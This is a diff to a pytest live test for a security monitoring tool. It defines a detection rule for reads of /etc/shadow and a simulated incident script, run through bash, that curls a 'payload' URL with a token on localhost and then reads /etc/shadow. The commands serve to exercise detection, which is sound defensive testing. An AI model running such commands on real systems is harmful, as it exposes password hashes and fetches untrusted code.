@@ -19,11 +19,12 @@ pytestmark = pytest.mark.live
 SHADOW = """
 - rule: Shadow read
   desc: d
-  condition: evt.type = openat and fd.name = /etc/shadow and evt.is_open_read = true and proc.name = cat
+  condition: evt.type = openat and fd.name = /etc/shadow and evt.is_open_read = true and proc.pcmdline contains {mark}
   output: shadow read (command=%proc.cmdline)
   priority: WARNING
 """
 INCIDENT = """
+: {mark}
 curl -s -m 2 'http://127.0.0.1:9/payload?token=hunter2'
 cat /etc/shadow
 for i in 1 2 3 4 5; do true; /bin/true; done
@@ -52,9 +53,10 @@ def past(*arguments: str | Path, kept: Path) -> str:
 
 def test_an_incident_is_explained_afterwards(rules: Path, kept: Path) -> None:
     """From the list of alerts to the tree: the shell, its download, the read, and what was not collected."""
-    rules.write_text(SHADOW)
+    # Other programs of this machine may read the same file.
+    rules.write_text(SHADOW.format(mark=kept))
     with watching(rules, kept) as running:
-        subprocess.run(["bash", "-c", INCIDENT], stdout=subprocess.DEVNULL, check=False)
+        subprocess.run(["bash", "-c", INCIDENT.format(mark=kept)], stdout=subprocess.DEVNULL, check=False)
         reported = json.loads(running.out.wait_for("Shadow read"))
         assert running.end() == 0
 
